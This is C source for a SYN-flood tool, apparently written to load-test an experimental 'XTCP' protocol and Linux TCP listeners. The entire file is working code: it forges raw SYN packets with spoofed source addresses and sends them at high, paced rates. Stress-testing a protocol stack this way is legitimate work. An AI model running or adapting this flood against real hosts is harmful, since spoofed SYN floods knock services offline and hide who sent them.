// SPDX-License-Identifier: GPL-2.0
/*
 * xtcp-synflood - flood a listener with spoofed SYNs from a raw socket
 *
 * SYNOPSIS
 *	xtcp-synflood [-p PROTO] [-s CIDR] [-r RATE] [-n COUNT] [-t SECS]
 *		      [-o OPTIONS] [-b BATCH] [-i IFNAME] [-q] DSTADDR DSTPORT
 *
 * DESCRIPTION
 *	Sends SYNs to DSTADDR DSTPORT (numeric IPv4) from a raw socket
 *	(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), which implies IP_HDRINCL):
 *	the tool writes the IPv4 header itself, with IP protocol PROTO, so
 *	that the same flood reaches XTCP (253) or Linux TCP (6).  Each SYN
 *	has a random source address in CIDR, a random source port in
 *	1024..65535 and a random initial sequence number; with timestamps, a
 *	random TSval (TSecr 0).  The segment is an RFC 9293 TCP header, flags
 *	SYN only, window 64240, whose checksum covers the pseudo-header
 *	carrying PROTO: XTCP checksums exactly as TCP does but for that
 *	byte.  The IPv4 header has DF set and TTL 64; the kernel fills in
 *	its identification, total length and checksum.
 *
 *	The source addresses are not ours: nothing answers the listener's
 *	SYN-ACKs unless the network routes them somewhere that does.  Root
 *	(CAP_NET_RAW) is needed.
 *
 *	At the end one line goes to standard output,
 *	"sent N syns in T.TTT s (R per s)", where N counts the SYNs the
 *	local stack accepted, T runs from before the first to after the last
 *	and R is N / T rounded; the exit status is 0.  An error goes to
 *	standard error and the exit status is 1 (2 for a usage error).
 *	SIGINT and SIGTERM stop the flood and still print the line.
 *
 * OPTIONS
 *	-p PROTO	IP protocol number, 0..255 (default 253, XTCP; 6 floods
 *			Linux TCP the same way, for side-by-side runs).
 *	-s CIDR		Source range ADDR/LEN (default 198.18.0.0/15, the
 *			benchmarking range of RFC 2544); ADDR alone is /32.
 *			Each SYN takes a uniformly random address in it.
 *	-r RATE		SYNs per second (default 0: as fast as possible).
 *			The SYNs go in batches of RATE / 1000 (at least 1, at
 *			most BATCH), the batch leaving when its last SYN is
 *			due: SYN i (from 0) is due (i + 1) / RATE seconds
 *			after the start, with clock_nanosleep() on absolute
 *			CLOCK_MONOTONIC times, so the rate holds on average
 *			without drifting.  When the sender falls behind it
 *			sends at once, without sleeping, until it catches up.
 *	-n COUNT	Stop after COUNT SYNs (default: no limit).
 *	-t SECS		Stop after SECS seconds (a decimal number).  With -r,
 *			also after RATE * SECS SYNs, so that a sender keeping
 *			up sends exactly that many.
 *			Without -n and -t the flood runs until a signal.
 *	-o OPTIONS	The SYN's TCP options: "linux" (the default: MSS 1460,
 *			SACK-permitted, timestamps, window scale 7, as a Linux
 *			client sends them), "none" (a bare 20-byte header),
 *			or a comma-separated list of "mss[=N]", "sack",
 *			"ts" and "ws[=N]" (defaults 1460 and 7).  Whatever
 *			the list's order, they are laid out as Linux's
 *			tcp_options_write() does: MSS; SACK-permitted and
 *			timestamps as 4,2,8,10 (NOP,NOP,8,10 without SACK,
 *			NOP,NOP,4,2 without timestamps); NOP and window
 *			scale.
 *	-b BATCH	SYNs per sendmmsg() call, 1..1024 (default 64).
 *	-i IFNAME	Bind the socket to this device (SO_BINDTODEVICE).
 *	-q		Quiet: only the final line and errors.
 *
 *	Without -q a line on standard error describes the flood before it
 *	starts, and another, after it, the sends the local stack refused for
 *	want of buffers (ENOBUFS: a full queue, e.g. a veth peer's backlog),
 *	which are retried and not counted.
 *
 * EXAMPLES
 *	xtcp-synflood -r 10000 -t 5 10.0.0.2 8080
 *	xtcp-synflood -p 6 -o none -n 1000 -s 10.9.0.0/16 10.0.0.2 8080
 */

#define _GNU_SOURCE		/* sendmmsg */
#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdnoreturn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define IP_HLEN		20
#define TCP_HLEN	20
#define OPT_MAX		40
#define PKT_MAX		(IP_HLEN + TCP_HLEN + OPT_MAX)
#define BATCH_MAX	1024
#define BATCH_DEF	64
#define RATE_MAX	1000000000ULL
#define NSEC_PER_SEC	1000000000ULL
#define SYN_WINDOW	64240	/* Linux's first window with MSS 1460 */

/* Offsets in the packet. */
#define IP_SADDR	12
#define IP_DADDR	16
#define TCP_SPORT	(IP_HLEN + 0)
#define TCP_DPORT	(IP_HLEN + 2)
#define TCP_SEQ		(IP_HLEN + 4)
#define TCP_CSUM	(IP_HLEN + 16)

/* The TCP options of the SYN. */
#define OPT_MSS		0x1
#define OPT_SACK	0x2
#define OPT_TS		0x4
#define OPT_WS		0x8
#define OPT_LINUX	(OPT_MSS | OPT_SACK | OPT_TS | OPT_WS)

struct options {
	struct sockaddr_in dst;
	int proto;
	uint32_t src_net;	/* host order */
	uint32_t src_host_mask;	/* host order: the bits chosen at random */
	int src_len;
	uint64_t rate;		/* per second; 0: as fast as possible */
	uint64_t count;		/* 0: no limit */
	double secs;		/* 0: no limit */
	unsigned int opts;	/* OPT_* */
	unsigned int mss, wscale;
	unsigned int batch;
	const char *ifname;
	bool quiet;
};

/* What every SYN shares, and where the random parts go. */
struct flood {
	unsigned char tmpl[PKT_MAX];
	unsigned int len;	/* IP header + TCP header + options */
	unsigned int ts_off;	/* offset of TSval in the packet, 0: none */
	uint32_t csum_base;	/* checksum sum with the random fields zero */
	uint32_t src_net, src_host_mask;	/* host order */
	uint64_t rng;
};

static const char *prog = "xtcp-synflood";
static atomic_bool stop;	/* lock-free: safe in a signal handler */

static void on_signal(int sig)
{
	(void)sig;
	atomic_store(&stop, true);
}

static noreturn void print_usage(void)
{
	fprintf(stderr,
		"usage: %s [-p PROTO] [-s CIDR] [-r RATE] [-n COUNT] [-t SECS]\n"
		"          [-o OPTIONS] [-b BATCH] [-i IFNAME] [-q] DSTADDR DSTPORT\n"
		"  -p  IP protocol number (default 253; 6 for Linux TCP)\n"
		"  -s  spoofed source range (default 198.18.0.0/15)\n"
		"  -r  SYNs per second (default 0: as fast as possible)\n"
		"  -n  stop after COUNT SYNs\n"
		"  -t  stop after SECS seconds\n"
		"  -o  TCP options: linux (default), none, or a list of\n"
		"      mss[=N],sack,ts,ws[=N]\n"
		"  -b  SYNs per sendmmsg() (default %d, at most %d)\n"
		"  -i  bind to device IFNAME\n"
		"  -q  quiet: the final line and errors only\n",
		prog, BATCH_DEF, BATCH_MAX);
	exit(2);
}

static noreturn void bad_arg(const char *what, const char *s)
{
	fprintf(stderr, "%s: bad %s '%s'\n", prog, what, s);
	exit(2);
}

static uint64_t parse_u64(const char *s, uint64_t min, uint64_t max,
			  const char *what)
{
	unsigned long long v;
	char *end;

	errno = 0;
	v = strtoull(s, &end, 10);
	if (errno || end == s || *end || *s == '-' || v < min || v > max)
		bad_arg(what, s);
	return v;
}

static void parse_cidr(const char *s, struct options *o)
{
	char buf[INET_ADDRSTRLEN + 4], *slash;
	struct in_addr a;
	uint32_t mask;

	if (snprintf(buf, sizeof(buf), "%s", s) >= (int)sizeof(buf))
		bad_arg("source range", s);
	o->src_len = 32;
	slash = strchr(buf, '/');
	if (slash) {
		*slash = '\0';
		o->src_len = parse_u64(slash + 1, 0, 32, "prefix length");
	}
	if (inet_pton(AF_INET, buf, &a) != 1)
		bad_arg("source range", s);
	mask = o->src_len ? ~0U << (32 - o->src_len) : 0;
	o->src_net = ntohl(a.s_addr) & mask;
	o->src_host_mask = ~mask;
}

/* "linux", "none" or a list of mss[=N], sack, ts, ws[=N]. */
static void parse_tcp_options(const char *s, struct options *o)
{
	char *list, *item, *save, *val;

	o->mss = 1460;
	o->wscale = 7;
	if (!strcmp(s, "linux")) {
		o->opts = OPT_LINUX;
		return;
	}
	o->opts = 0;
	if (!strcmp(s, "none"))
		return;
	list = strdup(s);
	if (!list) {
		perror(prog);
		exit(1);
	}
	for (item = strtok_r(list, ",", &save); item;
	     item = strtok_r(NULL, ",", &save)) {
		val = strchr(item, '=');
		if (val)
			*val++ = '\0';
		if (!strcmp(item, "mss")) {
			o->opts |= OPT_MSS;
			if (val)
				o->mss = parse_u64(val, 1, 65535, "MSS");
		} else if (!strcmp(item, "ws")) {
			o->opts |= OPT_WS;
			if (val)
				o->wscale = parse_u64(val, 0, 14,
						      "window scale");
		} else if (!strcmp(item, "sack") && !val) {
			o->opts |= OPT_SACK;
		} else if (!strcmp(item, "ts") && !val) {
			o->opts |= OPT_TS;
		} else {
			bad_arg("TCP option", item);
		}
	}
	free(list);
	if (!o->opts)
		bad_arg("TCP options", s);
}

static void parse_args(int argc, char **argv, struct options *o)
{
	char *end;
	int c;

	memset(o, 0, sizeof(*o));
	o->proto = 253;
	o->batch = BATCH_DEF;
	parse_cidr("198.18.0.0/15", o);
	parse_tcp_options("linux", o);

	while ((c = getopt(argc, argv, "p:s:r:n:t:o:b:i:qh")) != -1) {
		switch (c) {
		case 'p':
			o->proto = parse_u64(optarg, 0, 255, "protocol");
			break;
		case 's':
			parse_cidr(optarg, o);
			break;
		case 'r':
			o->rate = parse_u64(optarg, 0, RATE_MAX, "rate");
			break;
		case 'n':
			o->count = parse_u64(optarg, 1, UINT64_MAX, "count");
			break;
		case 't':
			errno = 0;
			o->secs = strtod(optarg, &end);
			if (errno || end == optarg || *end || !isfinite(o->secs) ||
			    o->secs <= 0 || o->secs > 1e9)
				bad_arg("duration", optarg);
			break;
		case 'o':
			parse_tcp_options(optarg, o);
			break;
		case 'b':
			o->batch = parse_u64(optarg, 1, BATCH_MAX, "batch");
			break;
		case 'i':
			if (!*optarg || strlen(optarg) >= IFNAMSIZ)
				bad_arg("interface", optarg);
			o->ifname = optarg;
			break;
		case 'q':
			o->quiet = true;
			break;
		default:
			print_usage();
		}
	}
	if (argc - optind != 2)
		print_usage();
	o->dst.sin_family = AF_INET;
	if (inet_pton(AF_INET, argv[optind], &o->dst.sin_addr) != 1)
		bad_arg("destination address", argv[optind]);
	o->dst.sin_port = htons(parse_u64(argv[optind + 1], 1, 65535,
					  "destination port"));
}

/* splitmix64: fast, and good enough for addresses, ports and ISNs. */
static inline uint64_t rnd(uint64_t *state)
{
	uint64_t z = (*state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* The one's complement sum of @len (even) bytes, as 16-bit loads. */
static uint32_t sum16(const unsigned char *p, unsigned int len)
{
	uint32_t sum = 0;
	uint16_t w;

	for (; len >= 2; p += 2, len -= 2) {
		memcpy(&w, p, 2);
		sum += w;
	}
	return sum;
}

static inline uint16_t csum_fold(uint64_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* The options in Linux's layout (tcp_options_write()); their length. */
static unsigned int write_tcp_options(const struct options *o,
				      unsigned char *p, unsigned int *ts_off)
{
	unsigned char *start = p;

	*ts_off = 0;
	if (o->opts & OPT_MSS) {
		*p++ = 2;
		*p++ = 4;
		*p++ = o->mss >> 8;
		*p++ = o->mss & 0xff;
	}
	if (o->opts & OPT_TS) {
		*p++ = o->opts & OPT_SACK ? 4 : 1;
		*p++ = o->opts & OPT_SACK ? 2 : 1;
		*p++ = 8;
		*p++ = 10;
		*ts_off = p - start;	/* TSval, then TSecr 0 */
		memset(p, 0, 8);
		p += 8;
	} else if (o->opts & OPT_SACK) {
		*p++ = 1;
		*p++ = 1;
		*p++ = 4;
		*p++ = 2;
	}
	if (o->opts & OPT_WS) {
		*p++ = 1;
		*p++ = 3;
		*p++ = 3;
		*p++ = o->wscale;
	}
	return p - start;
}

/*
 * The template: the IPv4 header, the TCP header and options with the
 * source address, source port, sequence number, TSval and checksum zero;
 * and the checksum's sum over it and the pseudo-header (destination,
 * protocol, TCP length; the source is added per SYN).
 */
static void build_template(const struct options *o, struct flood *f)
{
	unsigned char *ip = f->tmpl, *tcp = f->tmpl + IP_HLEN;
	unsigned int optlen, tcplen;
	unsigned char pseudo[8];
	uint16_t v16;

	memset(f, 0, sizeof(*f));
	optlen = write_tcp_options(o, tcp + TCP_HLEN, &f->ts_off);
	if (f->ts_off)
		f->ts_off += IP_HLEN + TCP_HLEN;
	tcplen = TCP_HLEN + optlen;
	f->len = IP_HLEN + tcplen;

	ip[0] = 0x45;				/* version 4, 5 words */
	ip[1] = 0;				/* TOS */
	v16 = htons(f->len);
	memcpy(ip + 2, &v16, 2);		/* the kernel sets it too */
	/* ip[4..5] identification 0: the kernel chooses one */
	v16 = htons(0x4000);			/* DF, as Linux sends SYNs */
	memcpy(ip + 6, &v16, 2);
	ip[8] = 64;				/* TTL */
	ip[9] = o->proto;
	/* ip[10..11] checksum: the kernel computes it */
	memcpy(ip + IP_DADDR, &o->dst.sin_addr, 4);

	memcpy(tcp + 2, &o->dst.sin_port, 2);
	/* ack 0 */
	tcp[12] = (tcplen / 4) << 4;		/* data offset */
	tcp[13] = 0x02;				/* SYN */
	v16 = htons(SYN_WINDOW);
	memcpy(tcp + 14, &v16, 2);

	memcpy(pseudo, &o->dst.sin_addr, 4);
	pseudo[4] = 0;
	pseudo[5] = o->proto;
	v16 = htons(tcplen);
	memcpy(pseudo + 6, &v16, 2);
	f->csum_base = sum16(pseudo, sizeof(pseudo)) + sum16(tcp, tcplen);

	f->src_net = o->src_net;
	f->src_host_mask = o->src_host_mask;
}

static inline uint32_t sum32(uint32_t v)
{
	return (v & 0xffff) + (v >> 16);
}

/* Fill @pkt (a copy of the template) with one SYN's random fields. */
static inline void fill_syn(struct flood *f, unsigned char *pkt)
{
	uint64_t r1 = rnd(&f->rng), r2 = rnd(&f->rng);
	uint32_t saddr, seq = (uint32_t)r2, tsval = r2 >> 32;
	uint64_t sum = f->csum_base;
	uint16_t sport, csum;

	saddr = htonl(f->src_net | ((uint32_t)r1 & f->src_host_mask));
	/* 1024..65535 from 16 random bits, by multiplication. */
	sport = htons(1024 + (((r1 >> 32) & 0xffff) * 64512 >> 16));

	memcpy(pkt + IP_SADDR, &saddr, 4);
	memcpy(pkt + TCP_SPORT, &sport, 2);
	memcpy(pkt + TCP_SEQ, &seq, 4);
	sum += sum32(saddr) + sport + sum32(seq);
	if (f->ts_off) {
		memcpy(pkt + f->ts_off, &tsval, 4);
		sum += sum32(tsval);
	}
	csum = csum_fold(sum);
	memcpy(pkt + TCP_CSUM, &csum, 2);
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * NSEC_PER_SEC + ts.tv_nsec;
}

/* When, after the start, SYN number @n (from 1) is due at @rate. */
static uint64_t due_after(uint64_t n, uint64_t rate)
{
	return n / rate * NSEC_PER_SEC + n % rate * NSEC_PER_SEC / rate;
}

/* Sleep until CLOCK_MONOTONIC reads @t; false when a signal stops us. */
static bool sleep_until(uint64_t t)
{
	struct timespec ts = {
		.tv_sec = t / NSEC_PER_SEC,
		.tv_nsec = t % NSEC_PER_SEC,
	};
	int r;

	while ((r = clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts,
				    NULL))) {
		if (r != EINTR || atomic_load(&stop))
			return false;
	}
	return true;
}

static int open_socket(const struct options *o)
{
	int fd, one = 1;

	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "%s: socket(AF_INET, SOCK_RAW, IPPROTO_RAW): %s\n",
			prog, strerror(errno));
		return -1;
	}
	/*
	 * IPPROTO_RAW implies IP_HDRINCL; IP_RECVERR makes a send the local
	 * stack drops for want of buffers fail with ENOBUFS instead of
	 * counting as sent.
	 */
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) ||
	    setsockopt(fd, IPPROTO_IP, IP_RECVERR, &one, sizeof(one))) {
		fprintf(stderr, "%s: setsockopt: %s\n", prog, strerror(errno));
		goto fail;
	}
	if (o->ifname && setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, o->ifname,
				    strlen(o->ifname))) {
		fprintf(stderr, "%s: SO_BINDTODEVICE %s: %s\n", prog,
			o->ifname, strerror(errno));
		goto fail;
	}
	return fd;
fail:
	close(fd);
	return -1;
}

static const char *options_name(const struct options *o, char *buf,
				size_t size)
{
	size_t n = 0;

	buf[0] = '\0';
	if (!o->opts)
		return "none";
	if (o->opts & OPT_MSS)
		n += snprintf(buf + n, size - n, "mss=%u,", o->mss);
	if (o->opts & OPT_SACK)
		n += snprintf(buf + n, size - n, "sack,");
	if (o->opts & OPT_TS)
		n += snprintf(buf + n, size - n, "ts,");
	if (o->opts & OPT_WS)
		n += snprintf(buf + n, size - n, "ws=%u,", o->wscale);
	buf[n - 1] = '\0';
	return buf;
}

int main(int argc, char **argv)
{
	static unsigned char pkts[BATCH_MAX][PKT_MAX];
	static struct mmsghdr msgs[BATCH_MAX];
	static struct iovec iov[BATCH_MAX];
	uint64_t sent = 0, limit = 0, nobufs = 0, start, end = 0, last, due;
	struct sigaction sa = { .sa_handler = on_signal };
	char dst[INET_ADDRSTRLEN], src[INET_ADDRSTRLEN], obuf[64];
	unsigned int batch, want, i;
	struct options o;
	struct flood f;
	struct in_addr a;
	double secs;
	int fd, n;

	parse_args(argc, argv, &o);
	build_template(&o, &f);
	if (getrandom(&f.rng, sizeof(f.rng), 0) != sizeof(f.rng)) {
		fprintf(stderr, "%s: getrandom: %s\n", prog, strerror(errno));
		return 1;
	}

	fd = open_socket(&o);
	if (fd < 0)
		return 1;

	for (i = 0; i < BATCH_MAX; i++) {
		memcpy(pkts[i], f.tmpl, f.len);
		iov[i].iov_base = pkts[i];
		iov[i].iov_len = f.len;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &o.dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(o.dst);
	}

	/* A batch every millisecond or so when paced. */
	batch = o.batch;
	if (o.rate && o.rate / 1000 < batch)
		batch = o.rate / 1000 ? o.rate / 1000 : 1;
	limit = o.count;
	if (o.rate && o.secs) {
		uint64_t cap = (uint64_t)((double)o.rate * o.secs);

		if (!cap)
			cap = 1;
		if (!limit || cap < limit)
			limit = cap;
	}

	sigemptyset(&sa.sa_mask);
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);

	if (!o.quiet) {
		a.s_addr = htonl(o.src_net);
		inet_ntop(AF_INET, &o.dst.sin_addr, dst, sizeof(dst));
		inet_ntop(AF_INET, &a, src, sizeof(src));
		fprintf(stderr,
			"%s: SYNs to %s:%u, IP protocol %d, from %s/%d, options %s, ",
			prog, dst, ntohs(o.dst.sin_port), o.proto, src,
			o.src_len, options_name(&o, obuf, sizeof(obuf)));
		if (o.rate)
			fprintf(stderr, "%llu per s", (unsigned long long)o.rate);
		else
			fprintf(stderr, "as fast as possible");
		fprintf(stderr, " in batches of %u\n", batch);
	}

	start = now_ns();
	if (o.secs)
		end = start + (uint64_t)(o.secs * NSEC_PER_SEC);
	while (!atomic_load(&stop)) {
		want = batch;
		if (limit) {
			if (sent >= limit)
				break;
			if (limit - sent < want)
				want = limit - sent;
		}
		if (end && now_ns() >= end)
			break;
		if (o.rate) {
			due = start + due_after(sent + want, o.rate);
			if (!sleep_until(due))
				break;
		}
		for (i = 0; i < want; i++)
			fill_syn(&f, pkts[i]);
		n = sendmmsg(fd, msgs, want, 0);
		if (n < 0) {
			if (errno == EINTR)
				continue;
			if (errno == ENOBUFS || errno == EAGAIN) {
				/* Let the queue drain; resend. */
				nobufs++;
				sched_yield();
				continue;
			}
			fprintf(stderr, "%s: sendmmsg to %s: %s (after %llu SYNs)\n",
				prog, inet_ntop(AF_INET, &o.dst.sin_addr, dst,
						sizeof(dst)),
				strerror(errno), (unsigned long long)sent);
			return 1;
		}
		sent += n;
	}
	last = now_ns();
	close(fd);

	if (!o.quiet && nobufs)
		fprintf(stderr, "%s: %llu sends refused with ENOBUFS, retried\n",
			prog, (unsigned long long)nobufs);
	secs = (last - start) / 1e9;
	printf("sent %llu syns in %.3f s (%.0f per s)\n",
	       (unsigned long long)sent, secs, secs > 0 ? sent / secs : 0.0);
	return 0;
}
